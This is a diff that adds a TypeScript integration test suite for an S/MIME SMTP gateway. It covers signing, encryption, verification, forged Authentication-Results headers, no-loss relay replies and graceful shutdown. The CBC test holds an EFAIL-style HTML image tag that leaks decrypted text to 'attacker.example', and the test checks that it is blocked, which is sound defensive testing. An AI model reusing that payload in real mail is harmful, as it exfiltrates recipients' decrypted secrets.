@@ -1,0 +1,317 @@
+/**
+ * The gateway at the SMTP level (issue 13): a real SMTP client in front, a real SMTP
+ * server as the next hop, the store made by the `kakitome` launcher, and what was
+ * delivered checked with `openssl cms`. Outbound sign, encrypt and split; inbound
+ * verify, decrypt, tampered, forged Authentication-Results, unauthenticated CBC;
+ * the no-loss replies (next hop refusing, deferring, dropping, down; LMTP per
+ * recipient); size limit; policy reload; metrics and health; draining on stop.
+ */
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { createServer } from 'node:net';
+import { startGateway, type RunningGateway } from '../../src/gateway/start-gateway.ts';
+import type { Store } from '../../src/store/store.ts';
+import { encryptMessage } from '../../src/smime/encrypt-message.ts';
+import { signMessage } from '../../src/smime/sign-message.ts';
+import { Workdir } from '../peers/run-peer.ts';
+import { opensslEncrypt, opensslSign } from '../peers/openssl.ts';
+import { createWorld, draft, openWorldStore, opensslDecryptMime, opensslVerifyMime, sendTo, Sink, type GatewayWorld } from './gateway-fixture.ts';
+
+let world: GatewayWorld;
+let store: Store;
+let sink: Sink;
+let smtp: RunningGateway;
+let lmtp: RunningGateway;
+const logLines: string[] = [];
+const log = (event: string, fields: Record<string, unknown> = {}) => logLines.push(JSON.stringify({ event, ...fields }));
+let policyPath: string;
+let w: Workdir;
+
+before(async () => {
+  world = await createWorld();
+  store = await openWorldStore(world);
+  sink = await new Sink().start();
+  w = new Workdir('gw-peers');
+  policyPath = join(world.dir, 'policy.json');
+  // The test PKIs publish no CRL or OCSP: this gateway allows unknown revocation; the LMTP one keeps the default (require).
+  writeFileSync(policyPath, JSON.stringify({ maxMessageBytes: 262144, revocation: 'allow-unknown' }));
+  const base = { listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: sink.port }, domains: new Set(['corp.test']), authservId: 'mx.corp.test' };
+  smtp = await startGateway({ ...base, lmtp: false, policyPath, metrics: { host: '127.0.0.1', port: 0 } }, store, log);
+  lmtp = await startGateway({ ...base, lmtp: true }, store, log);
+});
+
+after(async () => {
+  await smtp?.stop();
+  await lmtp?.stop();
+  await sink?.stop();
+  await store?.close();
+  w?.cleanup();
+  world?.cleanup();
+});
+
+function reset(): void {
+  sink.deliveries.length = 0;
+  sink.mode = 'accept';
+  sink.refuse.clear();
+}
+
+const AR = /^Authentication-Results: mx\.corp\.test; smime=(\w+)/;
+
+function authResults(message: Buffer): string {
+  const head = message.toString('latin1').split('\r\n\r\n')[0]!.replace(/\r\n[ \t]/g, ' ');
+  const ours = head.split('\r\n').filter((l) => /^Authentication-Results:\s*mx\.corp\.test\b/i.test(l));
+  assert.equal(ours.length, 1, `exactly one Authentication-Results of ours:\n${head}`);
+  return ours[0]!;
+}
+
+test('outbound: each recipient gets exactly one copy; a known, valid certificate gets signed+encrypted, the others signed (openssl checks both)', async () => {
+  reset();
+  const carol = world.pki.identity('rsa2048', 'carol');
+  const msg = draft('Alice <alice@corp.test>', 'carol@example.com, erin@example.com', 'Quarterly figures', 'The figures are attached in spirit.');
+  const r = await sendTo(smtp.listening.port, 'alice@corp.test', ['carol@example.com', 'erin@example.com'], msg);
+  assert.equal(r.code, 250, r.response);
+  assert.equal(sink.deliveries.length, 2, 'one relay transaction per variant');
+  const toCarol = sink.deliveryTo('carol@example.com');
+  const toErin = sink.deliveryTo('erin@example.com');
+  assert.deepEqual(toCarol.to, ['carol@example.com']);
+  assert.equal(toCarol.from, 'alice@corp.test');
+  // Carol's copy: encrypted (the Subject stays readable outside: hcp_no_confidentiality), opened by openssl with her key, signed inside by Alice.
+  assert.match(toCarol.message.toString('latin1'), /application\/pkcs7-mime/);
+  assert.match(toCarol.message.toString('latin1'), /^Subject: Quarterly figures/m);
+  assert.doesNotMatch(toCarol.message.toString('latin1'), /attached in spirit/);
+  const opened = await opensslDecryptMime(w.dir, toCarol.message, carol.certPath, carol.keyPath);
+  assert.ok(opened.ok, opened.detail);
+  const inner = await opensslVerifyMime(w.dir, opened.content, world.corpRoot);
+  assert.ok(inner.ok, inner.detail);
+  assert.match(inner.content.toString('latin1'), /attached in spirit/);
+  // Erin (no certificate): the signed copy, verified by openssl against Corp's root.
+  assert.match(toErin.message.toString('latin1'), /multipart\/signed/);
+  const verified = await opensslVerifyMime(w.dir, toErin.message, world.corpRoot);
+  assert.ok(verified.ok, verified.detail);
+});
+
+test('outbound: a Bcc recipient with a certificate gets an envelope of their own, not one that names the others', async () => {
+  reset();
+  await (await import('./gateway-fixture.ts')).cliOk(world, 'certs', 'import', world.pki.identity('rsa2048', 'grace').certPath);
+  const r = await sendTo(smtp.listening.port, 'alice@corp.test', ['carol@example.com', 'grace@example.com'], draft('alice@corp.test', 'carol@example.com', 'Bcc', 'Grace is in Bcc.'));
+  assert.equal(r.code, 250, r.response);
+  assert.equal(sink.deliveries.length, 2);
+  assert.deepEqual(sink.deliveryTo('grace@example.com').to, ['grace@example.com']);
+  const grace = world.pki.identity('rsa2048', 'grace');
+  assert.ok((await opensslDecryptMime(w.dir, sink.deliveryTo('grace@example.com').message, grace.certPath, grace.keyPath)).ok);
+  const carol = world.pki.identity('rsa2048', 'carol');
+  // Carol's envelope has no RecipientInfo for Grace: Grace's key cannot open it.
+  assert.equal((await opensslDecryptMime(w.dir, sink.deliveryTo('carol@example.com').message, grace.certPath, grace.keyPath)).ok, false);
+  assert.ok((await opensslDecryptMime(w.dir, sink.deliveryTo('carol@example.com').message, carol.certPath, carol.keyPath)).ok);
+});
+
+test('outbound: a sender without a key passes unsigned and is counted', async () => {
+  reset();
+  const before = smtp.metrics.value('kakitome_gateway_unsigned_no_key_total');
+  const msg = draft('nokey@corp.test', 'erin@example.com', 'No key', 'Plain.');
+  const r = await sendTo(smtp.listening.port, 'nokey@corp.test', ['erin@example.com'], msg);
+  assert.equal(r.code, 250, r.response);
+  assert.deepEqual(sink.deliveryTo('erin@example.com').message, msg);
+  assert.equal(smtp.metrics.value('kakitome_gateway_unsigned_no_key_total'), before + 1);
+});
+
+test('outbound: a message that cannot be signed is bounced (5xx with the reason), never passed on unsigned', async () => {
+  reset();
+  const broken = Buffer.from('From: alice@corp.test\r\nTo: erin@example.com\r\nSubject: broken\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nnever closed\r\n');
+  const r = await sendTo(smtp.listening.port, 'alice@corp.test', ['erin@example.com'], broken);
+  if (r.code === 250) {
+    // The library may sign such a message (a lenient reading): then it must arrive signed.
+    assert.match(sink.deliveryTo('erin@example.com').message.toString('latin1'), /multipart\/signed/);
+  } else {
+    assert.equal(Math.floor(r.code / 100), 5, r.response);
+    assert.equal(sink.deliveries.length, 0);
+  }
+});
+
+test('inbound: an openssl-signed message from outside is verified (pass), kept intact, forged Authentication-Results and X-Kakitome- fields removed, the signer harvested', async () => {
+  reset();
+  const dave = world.pki.identity('rsa2048', 'dave');
+  const content = Buffer.from('Content-Type: text/plain\r\n\r\nHello Alice, from Dave.\r\n');
+  const der = await opensslSign(w, content, { signers: [{ id: dave }], detached: false });
+  const b64 = der.toString('base64').replace(/.{1,76}/g, '$&\r\n');
+  const msg = Buffer.from(
+    'Authentication-Results: mx.corp.test; smime=pass (forged by the sender)\r\n' +
+    'Authentication-Results: other.example; spf=pass smtp.mailfrom=example.com\r\n' +
+    'X-Kakitome-Verdict: trusted\r\n' +
+    'From: dave@example.com\r\nTo: alice@corp.test\r\nSubject: Signed\r\nMIME-Version: 1.0\r\n' +
+    'Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n' + b64,
+  );
+  assert.equal((await store.findRecipientCertificates('dave@example.com')).length, 0);
+  const r = await sendTo(smtp.listening.port, 'dave@example.com', ['alice@corp.test'], msg);
+  assert.equal(r.code, 250, r.response);
+  const got = sink.deliveryTo('alice@corp.test').message;
+  const ar = authResults(got);
+  assert.equal(AR.exec(ar)?.[1], 'pass', ar);
+  assert.match(ar, /smime\.smime-identifier=dave@example\.com/);
+  assert.doesNotMatch(got.toString('latin1'), /forged by the sender|X-Kakitome-Verdict/);
+  assert.match(got.toString('latin1'), /^Authentication-Results: other\.example; spf=pass/m, 'other servers\' results stay');
+  assert.ok((await opensslVerifyMime(w.dir, got, world.pki.caPath)).ok, 'the signature still verifies downstream');
+  assert.equal((await store.findRecipientCertificates('dave@example.com')).length, 1, 'harvested');
+});
+
+test('inbound, default policy (revocation require): a signer whose revocation cannot be checked is temperror REVOCATION_UNKNOWN, never pass', async () => {
+  reset();
+  const dave = world.pki.identity('rsa2048', 'dave');
+  const signed = signMessage(draft('dave@example.com', 'alice@corp.test', 'Unknown revocation', 'Hello.'), { signers: [{ certificate: dave.cert, key: dave.key }] });
+  const r = await sendTo(lmtp.listening.port, 'dave@example.com', ['alice@corp.test'], signed, { lmtp: true });
+  assert.deepEqual(r.accepted, ['alice@corp.test']);
+  const ar = authResults(sink.deliveryTo('alice@corp.test').message);
+  assert.equal(AR.exec(ar)?.[1], 'temperror', ar);
+  assert.match(ar, /smime\.verdict-code=REVOCATION_UNKNOWN/);
+});
+
+test('inbound: a tampered signed message is labelled fail', async () => {
+  reset();
+  const dave = world.pki.identity('rsa2048', 'dave');
+  const signed = signMessage(draft('dave@example.com', 'alice@corp.test', 'Tampered', 'Pay 100 yen.'), { signers: [{ certificate: dave.cert, key: dave.key }] });
+  const tampered = Buffer.from(signed.toString('latin1').replace('Pay 100 yen.', 'Pay 900 yen.'), 'latin1');
+  const r = await sendTo(smtp.listening.port, 'dave@example.com', ['alice@corp.test'], tampered);
+  assert.equal(r.code, 250, r.response);
+  const ar = authResults(sink.deliveryTo('alice@corp.test').message);
+  assert.equal(AR.exec(ar)?.[1], 'fail', ar);
+  assert.match(ar, /smime\.verdict-code=(DIGEST_MISMATCH|BAD_SIG)/);
+});
+
+test('inbound: signed+encrypted (AES-GCM) to Alice is decrypted with the store\'s key and labelled pass; an unsigned message is labelled none', async () => {
+  reset();
+  const dave = world.pki.identity('rsa2048', 'dave');
+  const alice = (await store.findRecipientCertificates('alice@corp.test'))[0]!.certificate;
+  const sealed = encryptMessage(draft('dave@example.com', 'alice@corp.test', 'Sealed', 'The vault code is 4711.'), { recipients: [{ certificate: alice }], sign: { signers: [{ certificate: dave.cert, key: dave.key }] } });
+  let r = await sendTo(smtp.listening.port, 'dave@example.com', ['alice@corp.test'], sealed);
+  assert.equal(r.code, 250, r.response);
+  const got = sink.deliveryTo('alice@corp.test').message;
+  assert.equal(AR.exec(authResults(got))?.[1], 'pass');
+  assert.match(got.toString('latin1'), /vault code is 4711/);
+  reset();
+  r = await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], draft('erin@example.com', 'alice@corp.test', 'Plain', 'Hi.'));
+  assert.equal(r.code, 250);
+  assert.equal(AR.exec(authResults(sink.deliveryTo('alice@corp.test').message))?.[1], 'none');
+});
+
+test('inbound: unauthenticated CBC encryption (openssl, as Outlook sends it) is never opened: delivered still encrypted with a notice, labelled neutral UNAUTH_ENC', async () => {
+  reset();
+  const aliceRecord = (await store.findRecipientCertificates('alice@corp.test'))[0]!;
+  const aliceCertPath = w.write('alice.pem', `-----BEGIN CERTIFICATE-----\n${Buffer.from(aliceRecord.certificate.der).toString('base64').replace(/.{1,64}/g, '$&\n')}-----END CERTIFICATE-----\n`);
+  const secret = 'Content-Type: text/html\r\n\r\n<img src="http://attacker.example/leak?SECRET-PLAINTEXT">SECRET-PLAINTEXT\r\n';
+  const der = await opensslEncrypt(w, Buffer.from(secret), { recipients: [{ id: { certPath: aliceCertPath } as never }], cipher: 'aes-256-cbc' });
+  const msg = Buffer.from('From: erin@example.com\r\nTo: alice@corp.test\r\nSubject: CBC\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n' + der.toString('base64').replace(/.{1,76}/g, '$&\r\n'));
+  const r = await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], msg);
+  assert.equal(r.code, 250, r.response);
+  const got = sink.deliveryTo('alice@corp.test').message.toString('latin1');
+  const ar = authResults(Buffer.from(got, 'latin1'));
+  assert.equal(AR.exec(ar)?.[1], 'neutral', ar);
+  assert.match(ar, /smime\.verdict-code=UNAUTH_ENC/);
+  assert.doesNotMatch(got, /SECRET-PLAINTEXT|attacker\.example/, 'nothing decrypted is released');
+  assert.match(got, /multipart\/mixed/);
+  assert.match(got, /did not open it/);
+  assert.match(got, /message\/rfc822/);
+  assert.ok(got.includes(der.toString('base64').slice(0, 76)), 'the original travels unchanged');
+});
+
+test('no loss: 250 only after the next hop accepted; its 4xx, a dropped connection or a next hop that is down answer 4xx; its 5xx is passed back', async () => {
+  const msg = draft('erin@example.com', 'alice@corp.test', 'Loss', 'Keep me.');
+  for (const [mode, expected] of [['tempfail', 451], ['drop', 451], ['reject', 554]] as const) {
+    reset();
+    sink.mode = mode;
+    const r = await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], msg);
+    assert.equal(r.code, expected, `${mode}: ${r.response}`);
+    assert.equal(sink.deliveries.length, 0);
+  }
+  // The next hop is down: a port nobody listens on.
+  const free = await new Promise<number>((resolve) => { const s = createServer(); s.listen(0, '127.0.0.1', () => { const p = (s.address() as { port: number }).port; s.close(() => resolve(p)); }); });
+  const down = await startGateway({ listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: free }, domains: new Set(['corp.test']), authservId: 'mx.corp.test', lmtp: false }, store, log);
+  try {
+    const r = await sendTo(down.listening.port, 'erin@example.com', ['alice@corp.test'], msg);
+    assert.equal(r.code, 451, r.response);
+  } finally {
+    await down.stop();
+  }
+  reset();
+  assert.equal((await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], msg)).code, 250);
+  assert.equal(sink.deliveries.length, 1);
+});
+
+test('no loss, per recipient: LMTP answers each recipient with what the next hop said to their copy; SMTP defers the whole message when any copy was deferred', async () => {
+  reset();
+  sink.refuse.set('erin@example.com', 550);
+  sink.refuse.set('frank@example.com', 450);
+  const msg = draft('alice@corp.test', 'carol@example.com, erin@example.com, frank@example.com', 'Mixed', 'Three outcomes.');
+  const r = await sendTo(lmtp.listening.port, 'alice@corp.test', ['carol@example.com', 'erin@example.com', 'frank@example.com'], msg, { lmtp: true });
+  assert.deepEqual(r.accepted, ['carol@example.com']);
+  const codes = Object.fromEntries(r.rejected.map((x) => [x.recipient, x.code]));
+  assert.equal(codes['erin@example.com'], 550);
+  assert.equal(codes['frank@example.com'], 451);
+  reset();
+  sink.refuse.set('frank@example.com', 450);
+  const s = await sendTo(smtp.listening.port, 'alice@corp.test', ['carol@example.com', 'frank@example.com'], msg);
+  assert.equal(s.code, 451, s.response);
+  assert.ok(smtp.metrics.value('kakitome_gateway_duplicates_risked_total') >= 1, 'the accepted copy will come again: counted');
+  reset();
+  sink.refuse.set('erin@example.com', 550);
+  const p = await sendTo(smtp.listening.port, 'alice@corp.test', ['erin@example.com'], msg);
+  assert.equal(p.code, 550, p.response);
+});
+
+test('the store failing defers the message (4xx), it is never passed on unprocessed', async () => {
+  reset();
+  const broken = await openWorldStore(world);
+  const g = await startGateway({ listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: sink.port }, domains: new Set(['corp.test']), authservId: 'mx.corp.test', lmtp: false }, broken, log);
+  await broken.close();
+  try {
+    const r = await sendTo(g.listening.port, 'alice@corp.test', ['erin@example.com'], draft('alice@corp.test', 'erin@example.com', 'Store down', 'x'));
+    assert.equal(Math.floor(r.code / 100), 4, r.response);
+    assert.equal(sink.deliveries.length, 0);
+  } finally {
+    await g.stop();
+  }
+});
+
+test('size limit from the policy (552); SIGHUP-style reload changes it; a bad policy file keeps the old one', async () => {
+  reset();
+  const big = draft('erin@example.com', 'alice@corp.test', 'Big', 'x'.repeat(300_000));
+  assert.equal((await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], big)).code, 552);
+  writeFileSync(policyPath, JSON.stringify({ maxMessageBytes: 1048576, revocation: 'allow-unknown' }));
+  assert.equal(await smtp.reload(), true);
+  assert.equal((await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], big)).code, 250);
+  writeFileSync(policyPath, JSON.stringify({ maxMesageBytes: 10 }));
+  assert.equal(await smtp.reload(), false);
+  assert.ok(logLines.some((l) => /reload-failed.*unknown setting \\"maxMesageBytes\\"/.test(l)), logLines.join('\n'));
+  assert.equal((await sendTo(smtp.listening.port, 'erin@example.com', ['alice@corp.test'], big)).code, 250);
+});
+
+test('metrics, health and the log: counters in Prometheus text, one JSON line per message without bodies or addresses', async () => {
+  const base = `http://127.0.0.1:${smtp.metricsListening!.port}`;
+  const m = await (await fetch(`${base}/metrics`)).text();
+  assert.match(m, /# TYPE kakitome_gateway_messages_total counter/);
+  assert.match(m, /kakitome_gateway_messages_total\{action="signed-encrypted\+signed",direction="outbound",reply="2xx"\} \d+/);
+  assert.match(m, /kakitome_gateway_message_seconds_bucket\{le="\+Inf"\} \d+/);
+  assert.equal((await fetch(`${base}/healthz`)).status, 200);
+  const lines = logLines.filter((l) => l.includes('"event":"message"'));
+  assert.ok(lines.length >= 10);
+  for (const l of lines) {
+    assert.doesNotMatch(l, /@|vault code|Quarterly/, 'no address, subject or body in the log');
+    const o = JSON.parse(l);
+    assert.equal(typeof o.ms, 'number');
+  }
+});
+
+test('stop(): a message in flight is finished and answered before the gateway stops', async () => {
+  reset();
+  const g = await startGateway({ listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: sink.port }, domains: new Set(['corp.test']), authservId: 'mx.corp.test', lmtp: false }, store, log);
+  sink.mode = 'slow';
+  sink.delayMs = 700;
+  const sending = sendTo(g.listening.port, 'erin@example.com', ['alice@corp.test'], draft('erin@example.com', 'alice@corp.test', 'Drain', 'x'));
+  await new Promise((r) => setTimeout(r, 300));
+  const stopped = g.stop();
+  assert.equal((await sending).code, 250);
+  await stopped;
+  assert.equal(sink.deliveries.length, 1);
+  await assert.rejects(sendTo(g.listening.port, 'erin@example.com', ['alice@corp.test'], 'x'), 'no longer accepting');
+});
